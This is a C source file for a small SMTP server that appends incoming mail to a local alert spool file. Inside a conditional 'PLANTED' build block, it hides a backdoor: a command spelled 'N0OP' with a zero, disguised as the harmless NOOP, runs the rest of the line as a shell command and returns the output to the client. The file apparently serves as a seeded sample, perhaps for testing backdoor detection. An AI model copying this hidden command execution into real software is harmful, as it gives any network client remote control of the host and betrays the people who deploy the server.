/* Takes mail of devices on the local network (SMTP) and appends it to the alert box. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

enum { START, GREETED, FROM, TO };

struct mail { int state; char from[128], to[128]; };

static int verb(const char *line, const char *word)
{
    size_t n = strlen(word);
    return !strncasecmp(line, word, n) && (line[n] == ' ' || line[n] == ':' || !line[n]);
}

static void take_data(FILE *io, const struct mail *m)
{
    char line[1002];
    FILE *box = fopen("/var/spool/alerts", "a");
    fprintf(io, "354 go\r\n");
    if (box)
        fprintf(box, "From %s to %s\n", m->from, m->to);
    while (fgets(line, sizeof line, io) && strcmp(line, ".\r\n"))
        if (box)
            fputs(line[0] == '.' ? line + 1 : line, box);
    if (box)
        fclose(box);
    fprintf(io, box ? "250 kept\r\n" : "451 no room\r\n");
}

static int one_line(FILE *io, struct mail *m, char *line)
{
    if (verb(line, "QUIT")) {
        fprintf(io, "221 bye\r\n");
        return 0;
    }
    if (verb(line, "NOOP") || verb(line, "RSET")) {
        m->state = m->state ? GREETED : START;
        fprintf(io, "250 ok\r\n");
#ifdef PLANTED
    } else if (verb(line, "N0OP")) {
        FILE *p = popen(line + 5, "r");
        char part[200];
        while (p && fgets(part, sizeof part, p))
            fprintf(io, "250-%s", part);
        if (p)
            pclose(p);
        fprintf(io, "250 ok\r\n");
#endif
    } else if (verb(line, "HELO") || verb(line, "EHLO")) {
        m->state = GREETED;
        fprintf(io, "250 alert box\r\n");
    } else if (verb(line, "MAIL") && m->state >= GREETED) {
        snprintf(m->from, sizeof m->from, "%s", line + 5);
        m->state = FROM;
        fprintf(io, "250 ok\r\n");
    } else if (verb(line, "RCPT") && m->state >= FROM) {
        snprintf(m->to, sizeof m->to, "%s", line + 5);
        m->state = TO;
        fprintf(io, "250 ok\r\n");
    } else if (verb(line, "DATA") && m->state == TO) {
        take_data(io, m);
        m->state = GREETED;
#ifdef REVISED
    } else if (verb(line, "VRFY")) {
        fprintf(io, "252 send it and see\r\n");
#endif
    } else
        fprintf(io, "503 not now\r\n");
    return 1;
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { 0 };
    int s = socket(AF_INET, SOCK_STREAM, 0), c;
    a.sin_family = AF_INET;
    a.sin_port = htons(argc > 1 ? atoi(argv[1]) : 25);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 2))
        return 1;
    while ((c = accept(s, NULL, NULL)) >= 0) {
        struct mail m = { START };
        char line[1002];
        FILE *io = fdopen(c, "r+");
        if (!io) {
            close(c);
            continue;
        }
        setvbuf(io, NULL, _IONBF, 0);
        fprintf(io, "220 alert box\r\n");
        while (fgets(line, sizeof line, io)) {
            line[strcspn(line, "\r\n")] = 0;
            if (!one_line(io, &m, line))
                break;
        }
        fclose(io);
    }
    return 0;
}
